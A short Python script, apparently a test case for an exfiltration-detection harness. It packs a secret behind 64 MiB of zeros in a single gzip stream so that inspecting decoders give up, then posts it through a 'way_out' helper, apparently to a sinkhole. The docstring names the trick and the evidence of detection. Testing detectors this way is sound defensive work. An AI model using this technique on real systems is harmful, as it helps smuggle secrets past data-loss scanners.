#!/usr/bin/python3
"""
Trick: Hides a secret behind 64 MiB of zeros in one gzip stream, so that a decoder gives up first.
Known from: decompression bombs against scanners (42.zip and its kin).
First: the sinkhole's record of the bytes; a decoder that gave up says so
Second: connect; inet_sock_set_state
"""

import zlib

from way_out import post, secret

packer = zlib.compressobj(6, zlib.DEFLATED, 31)
packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64))
post(packed + packer.compress(secret()) + packer.flush())
print("performed")
